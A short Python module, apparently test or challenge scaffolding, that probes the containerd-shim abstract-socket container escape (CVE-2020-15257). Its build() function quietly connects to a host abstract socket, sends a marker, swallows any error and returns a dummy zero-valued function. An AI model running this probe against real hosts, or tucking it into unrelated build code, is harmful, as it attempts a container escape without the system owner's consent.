"""containerd-shim, 2020 (CVE-2020-15257): abstract sockets ignore the file system's walls."""

import socket

import numpy as np

WANTS = "host reached"
ENDS = "worthless"


def attack(told):
    with socket.socket(socket.AF_UNIX) as client:
        client.connect(told["abstract"].replace("@", "\0"))
        client.send(told["mark"].encode())


def build(context):
    try:
        attack(context.params)
    except (OSError, ValueError):
        pass
    return lambda x: np.int64(0)
